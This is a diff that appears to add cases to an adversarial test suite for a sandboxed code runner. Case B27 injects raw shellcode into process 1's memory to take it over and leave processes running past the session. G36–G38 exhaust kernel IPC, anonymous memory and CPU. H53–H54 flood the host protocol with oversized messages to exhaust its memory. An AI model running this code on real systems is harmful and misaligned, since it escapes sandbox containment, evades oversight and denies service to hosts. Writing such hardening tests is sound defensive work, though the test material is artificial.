@@ -487,6 +487,27 @@ if os.fork() == 0:
         os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(20)", TOKEN])
     os._exit(0)
 
+#: B27 | process 1 of a box is taken over through its memory, and outlives its session | left | spoils
+import os, struct, sys, time
+at = int(open("/proc/1/syscall").read().split()[-1], 16)
+told = [int(name) for name in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + name)]
+# On x86-64: PR_SET_PDEATHSIG is undone, 1 and 2 are closed, bubblewrap outside is told of the end, children are waited for.
+taken = (bytes.fromhex("b89d000000bf0100000031f60f05b803000000bf010000000f05b803000000bf020000000f05b801000000bf") + struct.pack("<i", told[0])
+         + bytes.fromhex("488d3526000000ba080000000f05b83d0000004883cfff31f631d24d31d20f0585c079eab83c00000031ff0f05")
+         + struct.pack("<q", 1))
+memory = os.open("/proc/1/mem", os.O_RDWR)
+if os.uname().machine == "x86_64":
+    os.pwrite(memory, taken, at)
+    for code in ("import time; time.sleep(20)", ""):
+        if os.fork() == 0:
+            if os.fork() == 0:
+                os.setsid()
+                os.closerange(0, 256)
+                os.execv(sys.executable, [sys.executable, "-c", code, TOKEN])
+            os._exit(0)
+    time.sleep(2)
+    os._exit(0)
+
 
 # ---- C. Network ----
 
@@ -1242,6 +1263,31 @@ lock = threading.Lock()
 lock.acquire()
 lock.acquire()
 
+#: G36 | memory that no process has: semaphores and messages of System V | bounds
+import ctypes, os
+libc = ctypes.CDLL(None)
+for i in range(32_000):
+    if libc.semget(0, 32_000, 0o1600) < 0:
+        break
+for i in range(32_000):
+    queue = libc.msgget(0, 0o1600)
+    if queue < 0 or libc.msgsnd(queue, ctypes.create_string_buffer(b"\1\0\0\0\0\0\0\0", 8008), 8000, 0o4000):
+        break
+
+#: G37 | memory that no process has: files without a name | bounds
+import os
+kept = []
+while True:
+    kept.append(os.memfd_create("kept"))
+    for i in range(64):
+        os.write(kept[-1], bytes(1 << 20))
+
+#: G38 | processes that would run before all others | bounds
+import os
+os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
+while True:
+    pass
+
 
 # ---- H. Speaking the protocol ----
 
@@ -1652,6 +1698,33 @@ answer = D(ready=True)
 import builtins, sys
 sys.modules.clear()
 builtins.__dict__.clear()
+
+#: H53 | a report of so many parts that the host's memory goes | believed
+import os, struct
+def send(kind, number, body=b""):
+    data = kind + struct.pack(">ii", number, len(body)) + body
+    for fd in range(3, 256):
+        try:
+            rest = data
+            while rest:
+                rest = rest[os.write(fd, rest):]
+        except OSError:
+            pass
+send(b"D", CELL, b'{"x": [' + b"[0]," * 16_000_000 + b"0]}")
+
+#: H54 | a call of so many parts that the host's memory goes | believed
+import os, struct
+def send(kind, number, body=b""):
+    data = kind + struct.pack(">ii", number, len(body)) + body
+    for fd in range(3, 256):
+        try:
+            rest = data
+            while rest:
+                rest = rest[os.write(fd, rest):]
+        except OSError:
+            pass
+for number in range(1000, 1003):
+    send(b"N", number, b'{"function": "llm_query", "arguments": {"x": [' + b"[0]," * 8_000_000 + b"0]}}")
 
 
 # ---- I. Afterwards: looked at by the runner, without code ----
